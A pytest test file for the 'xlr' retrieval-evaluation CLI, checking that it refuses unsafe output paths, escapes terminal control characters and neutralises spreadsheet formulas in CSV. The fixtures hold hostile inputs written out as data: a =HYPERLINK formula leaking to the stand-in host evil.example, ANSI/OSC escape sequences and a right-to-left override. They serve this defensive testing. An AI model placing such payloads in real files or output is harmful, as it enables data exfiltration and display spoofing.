"""The CLI loses nothing, prints nothing raw and writes spreadsheet-safe CSV (issue 9)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pandas as pd
import pytest

from xlr.cli.main import main

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'


def _corpus(path: Path) -> Path:
    rows = [
        {"id": "1", "lang": "en", "text": "The cat sleeps on the sofa.\x1b]0;owned\x07", "title": "\x1b[2Jcats"},
        {"id": "1", "lang": "de", "text": "Die Katze schläft auf dem Sofa.\u202eevil"},
        {"id": "1", "lang": HYPERLINK, "text": "Le chat dort sur le canapé."},
        {"id": "2\x1b[31m", "lang": "en", "text": "Trains are late in winter."},
        {"id": "2\x1b[31m", "lang": "de", "text": "Im Winter haben Züge Verspätung."},
        {"id": "2\x1b[31m", "lang": HYPERLINK, "text": "Les trains sont en retard en hiver."},
    ]
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def _eval(corpus: Path, cache: Path, *extra: str) -> int:
    return main(
        ["eval", "--dataset", str(corpus), "--model", "e5-small", "--cache-dir", str(cache), "--no-progress", *extra]
    )


def test_json_over_the_corpus_refused_before_any_encoding(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    corpus = _corpus(tmp_path / "corpus.jsonl")
    before = corpus.read_bytes()
    cache = tmp_path / "cache"
    for flag in ("--json", "--csv"):
        assert _eval(corpus, cache, flag, str(corpus)) == 2
        err = capsys.readouterr().err
        assert f"xlr: error: {flag} {corpus} is an input of this run" in err and "encoded" not in err
    link = tmp_path / "alias.jsonl"
    link.symlink_to(corpus)
    assert _eval(corpus, cache, "--json", str(link)) == 2
    assert f"--json {link} is a symbolic link" in capsys.readouterr().err  # never followed
    assert corpus.read_bytes() == before
    assert not cache.exists() or not any(cache.rglob("*.npy"))  # nothing was encoded
    assert sorted(p.name for p in tmp_path.iterdir()) == ["alias.jsonl", "corpus.jsonl"]


@pytest.mark.parametrize(
    "args, message",
    [
        (["--json", "/dev/null"], "--json /dev/null: /dev is a special file system"),
        (["--csv", "/dev/stdout"], "--csv /dev/stdout: /dev is a special file system"),
        (["--csv", "/proc/x.csv"], "--csv /proc/x.csv: /proc is a special file system"),
        (["--json", "{t}/same", "--csv", "{t}/same"], "--json {t}/same and --csv {t}/same name the same file"),
        (["--csv", "{t}/fifo"], "--csv {t}/fifo is a FIFO (named pipe); give a regular file path"),
        (["--csv", "{t}"], "--csv {t} is a folder"),
        (["--json", "{t}/corpus.jsonl/x.json"], "--json {t}/corpus.jsonl/x.json: cannot write in folder"),
    ],
)
def test_bad_outputs_refused_up_front(
    args: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    corpus = _corpus(tmp_path / "corpus.jsonl")
    os.mkfifo(tmp_path / "fifo")
    before = corpus.read_bytes()
    assert _eval(corpus, tmp_path / "cache", *[a.format(t=tmp_path) for a in args]) == 2
    err = capsys.readouterr().err
    assert err.startswith("xlr: error: " + message.format(t=tmp_path)), err
    assert "encoded" not in err and ".tmp" not in err and err.count("\n") == 1
    assert corpus.read_bytes() == before and not (tmp_path / "cache").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["corpus.jsonl", "fifo"]


def test_compare_refuses_to_overwrite_its_inputs(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    base = tmp_path / "base.json"
    base.write_text("{}")
    rc = main(["compare", "--baseline", str(base), "--candidate", str(base), "--json", str(base)])
    assert rc == 2 and f"--json {base} is an input of this run" in capsys.readouterr().err
    assert base.read_text() == "{}"


def test_deep_nesting_is_one_line_not_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    corpus = tmp_path / "deep.jsonl"
    corpus.write_bytes(b'{"id": "1", "lang": "en", "text": "a"}\n' + b"[" * 200_000 + b"\n")
    rc = main(["eval", "--dataset", str(corpus), "--model", "e5-small"])
    assert rc == 2 and capsys.readouterr().err == (
        f"xlr: error: {corpus}, line 2: JSON nested too deeply "
        "(arrays or objects inside each other beyond the parser's limit)\n"
    )
    rc = main(["eval", "--dataset", str(corpus), "--model", "e5-small", "--lenient"])  # skipped like any bad line
    err = capsys.readouterr().err
    assert rc == 2 and err.startswith(
        f"xlr: note: {corpus}: 1 document from 2 lines; 1 line skipped (line 2: JSON nested too deeply"
    )
    assert "Traceback" not in err and "encoded" not in err  # stops at the directions, before any encoder


@pytest.mark.slow
def test_eval_prints_escaped_and_writes_safe_csv_exact_json(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    corpus = _corpus(tmp_path / "corpus.jsonl")
    out_json, out_csv = tmp_path / "r.json", tmp_path / "r.csv"
    rc = _eval(
        corpus,
        tmp_path / "cache",
        "--model",
        "e5-small",
        "--all-directions",
        "--k",
        "1",
        "1",
        "--json",
        str(out_json),
        "--csv",
        str(out_csv),
    )
    cap = capsys.readouterr()
    assert rc == 0, cap.err
    for stream in (cap.out, cap.err):
        assert "\x1b" not in stream and "\u202e" not in stream and "\x07" not in stream
    assert "xlr: note: repeated --model used once: e5-small" in cap.err
    assert "xlr: note: repeated --k used once: 1" in cap.err
    assert '=HYPERLINK("http://evil.example/?leak","click")' in cap.out  # shown as text on a terminal
    csv = pd.read_csv(out_csv, dtype=str)
    assert set(csv["source"]) == {"en", "de", "'" + HYPERLINK}
    assert not any(str(v).startswith(("=", "+", "@")) for col in csv for v in csv[col])
    data = json.loads(out_json.read_text(encoding="utf-8"))
    assert {r["source"] for r in data["rows"]} == {"en", "de", HYPERLINK}  # JSON keeps exact values
    assert len(data["rows"]) == 6 * 2  # 6 directions x (recall@1, mrr), one model: no duplicates
    assert data["manifest"]["dataset"]["files"][0]["sha256"] is not None


@pytest.mark.slow
def test_repeated_directions_and_languages_used_once(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    corpus = _corpus(tmp_path / "corpus.jsonl")
    out = tmp_path / "r.json"
    assert _eval(corpus, tmp_path / "cache", "--directions", "de-en,de-en", "--k", "1", "--json", str(out)) == 0
    assert "xlr: note: repeated direction used once: de->en" in capsys.readouterr().err
    rows = json.loads(out.read_text())["rows"]
    assert [(r["source"], r["target"], r["metric"]) for r in rows] == [("de", "en", "recall@1"), ("de", "en", "mrr")]
    rc = main(
        ["search", "--dataset", str(corpus), "--model", "e5-small", "--cache-dir", str(tmp_path / "cache")]
        + ["--no-progress", "--lang", "en", "--lang", "en", "--k", "5", "sleeping cat"]
    )
    cap = capsys.readouterr()
    assert rc == 0 and "xlr: note: repeated --lang used once: en" in cap.err
    hits = cap.out.splitlines()
    assert len(hits) == 2 and len({h.split()[3] for h in hits}) == 2  # each English document once
    assert "\x1b" not in cap.out and "\\x1b" in cap.out  # the id and title show their ESC as text
